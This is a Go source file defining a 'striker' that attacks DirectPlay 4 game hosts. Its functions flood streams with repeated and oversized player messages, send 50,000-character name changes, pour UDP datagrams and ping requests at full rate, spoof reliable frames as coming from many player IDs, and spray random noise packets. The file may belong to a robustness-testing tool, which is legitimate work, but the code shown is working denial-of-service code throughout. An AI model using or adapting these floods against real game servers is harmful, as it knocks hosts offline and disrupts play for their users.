package main

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"
	"strings"

	"dplay4/wire"
	"dplay4/wire/reliable"
)

// flood says the same over a connection at full rate, as the member that the attacker is, to each of some machines.
func (x *striker) flood(b []byte, to ...netip.AddrPort) error {
	return x.together(len(to), func(i int) error {
		c := x.call(x.at(0), to[i])
		if c == nil {
			return fmt.Errorf("no connection to %v", to[i])
		}
		defer c.Close()
		for x.on() {
			if _, err := c.Write(b); err != nil {
				return err
			}
		}
		return nil
	})
}

// together runs do for the numbers below n at once, and returns the first error while the attack lasts. At its end it leaves those alone
// that wait for somebody to read.
func (x *striker) together(n int, do func(i int) error) error {
	done := make(chan error, n)
	for i := range n {
		go func() { done <- do(i) }()
	}
	for range n {
		select {
		case err := <-done:
			if err != nil && x.on() {
				return err
			}
		case <-x.end:
			return nil
		}
	}
	return nil
}

// message is a game message of the attacker to the host's player.
func (x *striker) message(size int) []byte {
	return octets(port(x.Stream.Port()), &wire.PlayerMessage{From: x.Player, To: x.Host.Player,
		Payload: bytes.Repeat([]byte{'.'}, size)})
}

func (x *striker) floodStream() error {
	return x.flood(bytes.Repeat(x.message(64), 200), x.Host.Stream)
}

func (x *striker) floodLarge() error { return x.flood(x.message(60000), x.Host.Stream) }

// floodNames tells all members of each new name, as a member does.
func (x *striker) floodNames() error {
	var b []byte
	for i := range 2 {
		name := wire.NewText(strings.Repeat(string(rune('a'+i)), 50000))
		b = append(b, octets(port(x.Stream.Port()), &wire.PlayerNameChanged{Player: x.Player, ShortName: name, LongName: name})...)
	}
	return x.flood(b, x.Host.Stream, x.Control.Stream)
}

// pour sends datagrams to the host at full rate.
func (x *striker) pour(next func() []byte) error {
	return datagrams(func(from []*net.UDPConn) {
		for x.on() {
			for range 64 {
				x.send(from[0], x.Host.Datagram, next())
			}
		}
	}, x.at(0))
}

// always returns the same octets.
func always(b []byte) func() []byte { return func() []byte { return b } }

func (x *striker) floodDatagrams() error {
	b, err := wire.AppendPlayerMessage(nil, &wire.PlayerMessage{From: x.Player, To: x.Host.Player,
		Payload: bytes.Repeat([]byte{'.'}, 64)})
	if err != nil {
		return err
	}
	return x.pour(always(b))
}

// floodPings asks for answers that go to the attacker's machine, which reads them.
func (x *striker) floodPings() error {
	return x.pour(always(octets(port(x.Stream.Port()), &wire.Ping{From: x.System, Tick: 1})))
}

// strangeFrames sends frames of which each is from another player, and for the host's.
func (x *striker) strangeFrames() error {
	from := uint16(0)
	return x.pour(func() []byte {
		from++
		f := reliable.Frame{From: from, To: uint16(x.Host.Player), Flags: reliable.CMD | reliable.STA | reliable.EOM | reliable.RLY,
			MessageID: 1, Sequence: 1, Data: []byte(intruder)}
		b, err := f.Append(nil)
		if err != nil {
			panic(err) // all that is sent is ours, and fits
		}
		return b
	})
}

// noise sends random octets, the same ones in each run.
func (x *striker) noise() error {
	r := rand.New(rand.NewPCG(1, 2))
	all := make([]byte, 1<<16)
	for i := range all {
		all[i] = byte(r.Uint32())
	}
	return x.pour(func() []byte {
		at := r.IntN(len(all) - 1400)
		return all[at : at+1+r.IntN(1400)]
	})
}
